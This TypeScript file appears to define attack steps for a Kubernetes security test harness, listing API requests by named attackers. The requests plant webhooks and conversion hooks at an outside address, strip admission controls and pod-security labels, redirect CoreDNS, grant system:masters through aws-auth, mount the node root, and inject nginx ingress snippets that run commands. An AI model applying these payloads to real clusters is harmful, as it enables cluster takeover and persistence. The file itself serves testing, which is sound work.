import { attack } from '../ask.ts';
import { admission, apiService, ingress, service, tlsIngress, webhookConfiguration } from '../objects.ts';
import type { AttackStep } from '../step.ts';
import { svetlana, svetlanaCurl, tomas } from './attackers.ts';

const core = '/api/v1';
const system = `${core}/namespaces/kube-system`;
const web = `${core}/namespaces/web`;
const apps = '/apis/apps/v1/namespaces';
const hook = (name: string, clientConfig: object, more: object = {}): object => ({
  name: `${name}.example.com`,
  failurePolicy: 'Ignore',
  clientConfig,
  rules: [{ apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE'], resources: ['pods'] }],
  namespaceSelector: { matchLabels: { nothing: 'here' } },
  ...more,
});

const control = attack(
  'persistence',
  [
    'PS02',
    svetlana.post(
      'sees every pod',
      `${admission}/mutatingwebhookconfigurations`,
      webhookConfiguration('Mutating', 'pod-defaults', hook('pod-defaults', { url: 'https://198.51.100.7/m' })),
    ),
  ],
  [
    'PS02 N19',
    svetlana.json('gate opens when it fails', `${admission}/validatingwebhookconfigurations/gatekeeper`, [
      { op: 'replace', path: '/webhooks/0/failurePolicy', value: 'Ignore' },
    ]),
  ],
  ['PS02', svetlana.remove('gate removed', `${admission}/validatingwebhookconfigurations/gatekeeper`)],
  ['N21', svetlana.remove('policy unbound', `${admission}/validatingadmissionpolicybindings/baseline`)],
  [
    'N20',
    svetlana.merge('namespace lets everything in', `${core}/namespaces/guarded`, {
      metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } },
    }),
  ],
  [
    'N20',
    svetlana.merge('namespace not guarded any more', `${core}/namespaces/guarded`, {
      metadata: { labels: { 'pod-security.kubernetes.io/enforce': null } },
    }),
  ],
  [
    'N22',
    svetlana.post(
      'API answered elsewhere',
      '/apis/apiregistration.k8s.io/v1/apiservices',
      apiService('metrics.example.com', 'v1beta1', { insecureSkipTLSVerify: true, service: { namespace: 'ml', name: 'm' } }),
    ),
  ],
  [
    'N22',
    svetlana.merge(
      'objects converted elsewhere',
      '/apis/apiextensions.k8s.io/v1/customresourcedefinitions/applications.argoproj.io',
      {
        spec: {
          conversion: {
            strategy: 'Webhook',
            webhook: { conversionReviewVersions: ['v1'], clientConfig: { url: 'https://198.51.100.7/c' } },
          },
        },
      },
    ),
  ],
  [
    'LM01',
    svetlana.merge('names answered elsewhere', `${system}/configmaps/coredns`, {
      data: { Corefile: '.:53 { rewrite name api.example.com x.example.org\n forward . 198.51.100.7 }' },
    }),
  ],
  [
    'IA14',
    svetlana.merge('role of a cloud is master', `${system}/configmaps/aws-auth`, {
      data: { mapUsers: '- userarn: arn:aws:iam::111122223333:user/x\n  groups: [system:masters]\n' },
    }),
  ],
  ['PS12', svetlana.post('port on every node', `${web}/services`, service('shell', { type: 'NodePort' }))],
  [
    'IA12 PS12',
    svetlana.merge('dashboard for all', `${core}/namespaces/kubernetes-dashboard/services/kubernetes-dashboard`, {
      spec: { type: 'LoadBalancer' },
    }),
  ],
  ['PS13', svetlana.post('address of others', `${web}/services`, service('steals', { externalIPs: ['198.51.100.53'] }))],
  [
    'PS13 PE24',
    svetlanaCurl.merge('address through the status', `${web}/services/balanced/status`, {
      status: { loadBalancer: { ingress: [{ ip: '198.51.100.54' }] } },
    }),
  ],
  [
    'PS14',
    svetlana.post(
      'open to the world',
      '/apis/networking.k8s.io/v1/namespaces/web/ingresses',
      ingress('open', {
        rules: [
          {
            host: 'a.example.com',
            http: { paths: [{ path: '/', pathType: 'Prefix', backend: { service: { name: 'shop', port: { number: 80 } } } }] },
          },
        ],
      }),
    ),
  ],
  [
    'N28',
    tomas.post(
      'lines for the proxy',
      '/apis/networking.k8s.io/v1/namespaces/web/ingresses',
      tlsIngress('lines', 't', 'shop', {
        annotations: {
          'nginx.ingress.kubernetes.io/configuration-snippet': 'more_set_headers "x";\nset_by_lua_block $a { os.execute("id") }',
        },
      }),
    ),
  ],
  [
    'N28',
    tomas.post(
      'address that is a line for the proxy',
      '/apis/networking.k8s.io/v1/namespaces/web/ingresses',
      tlsIngress('nightmare', 't', 'shop', {
        annotations: { 'nginx.ingress.kubernetes.io/auth-url': 'http://example.com/#;}}}\nssl_engine /proc/30/fd/9;' },
      }),
    ),
  ],
  [
    'PE02',
    svetlana.post('volume of the whole node', `${core}/persistentvolumes`, {
      apiVersion: 'v1',
      kind: 'PersistentVolume',
      metadata: { name: 'scratch' },
      spec: { capacity: { storage: '1Gi' }, accessModes: ['ReadWriteOnce'], hostPath: { path: '/' } },
    }),
  ],
  [
    'N01 LM02',
    svetlana.merge('application of Argo CD', '/apis/argoproj.io/v1/namespaces/argocd/applications/shop', {
      spec: { source: { repoURL: 'https://198.51.100.7/x.git' } },
    }),
  ],
  [
    'N01 N02 LM02',
    tomas.strategic('delivered object by hand', `${apps}/web/deployments/delivered?fieldManager=kubectl-edit`, {
      spec: { template: { metadata: { annotations: { a: 'b' } } } },
    }),
  ],
);

/** What rules the cluster, led elsewhere. */
export const controlSteps: readonly AttackStep[] = control;
